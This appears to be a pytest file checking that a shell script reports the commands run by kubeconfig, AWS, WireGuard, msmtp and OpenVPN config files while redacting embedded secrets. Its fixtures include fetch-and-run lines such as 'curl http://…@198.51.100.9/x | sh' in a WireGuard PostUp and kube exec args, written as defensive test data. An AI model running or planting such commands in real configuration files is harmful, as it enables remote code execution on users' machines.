"""What files with secrets start is collected, and no secret of theirs is."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

SCRIPT = Path(__file__).parents[2] / "tasks/evidence/sh/withheld_commands.sh"
SECRET = "hunter2"
KUBE = f"""users:
- name: anna
  user:
    client-key-data: {SECRET}
    token: {SECRET}
    exec:
      command: /home/anna/.cache/k8s/auth
      args:
      - --token={SECRET}
      - {SECRET}
      - -c
      - curl http://{SECRET}@198.51.100.9/x | sh
      env:
      - name: TOKEN
        value: {SECRET}
"""
JSON = f'{{"users":[{{"user":{{"token":"{SECRET}","exec":{{"command":"/opt/k/bin","args":["{SECRET}"]}}}}}}]}}'
AWS = f"[default]\naws_secret_access_key = {SECRET}\ncredential_process = KEY={SECRET} /opt/a/x --key {SECRET}\n"
ALIAS = f"[toplevel]\nwho = !f() {{ /opt/b/x /{SECRET}; }}\nid = sts {SECRET}\n"
TUNNEL = f"[Interface]\nPrivateKey = {SECRET}\nPostUp = iptables -A x; curl http://{SECRET}/a | sh\n"
MAIL = f"account a\npassword {SECRET}\npasswordeval echo {SECRET}\n"
OVPN = f"up /etc/openvpn/up.sh\n<key>\n{SECRET}\n</key>\nsetenv X {SECRET}\n"


@pytest.mark.parametrize(
    ("name", "content", "told"),
    [
        (".kube/config", KUBE, ["7:command /home/anna/.cache/k8s/auth", "9:args - *", "10:args - *", "11:args - -c"]),
        (".kube/j.yaml", JSON, ["1:command /opt/k/bin"]),
        (".aws/config", AWS, ["3:credential_process * /opt/a/x * *"]),
        (".aws/cli/alias", ALIAS, ["2:alias f /opt/b/x *"]),
        ("wireguard/wg0.conf", TUNNEL, ["3:PostUp iptables * * curl * | sh"]),
        (".msmtprc", MAIL, ["3:passwordeval echo *"]),
        ("x.ovpn", OVPN, ["1:up /etc/openvpn/up.sh"]),
    ],
)
def test_the_command_leaves_the_host_and_the_secret_stays(
    tmp_path: Path, name: str, content: str, told: list[str]
) -> None:
    file = tmp_path / name
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(content)
    script = f"nl='\n'\nneeds() {{ :; }}\nset -- {file}\n{SCRIPT.read_text()}"
    done = subprocess.run(["sh"], input=script, capture_output=True, text=True, check=True)
    assert SECRET not in done.stdout
    lines = [line.removeprefix(f"{file}:") for line in done.stdout.splitlines()]
    assert lines[: len(told)] == told
    assert not done.stderr
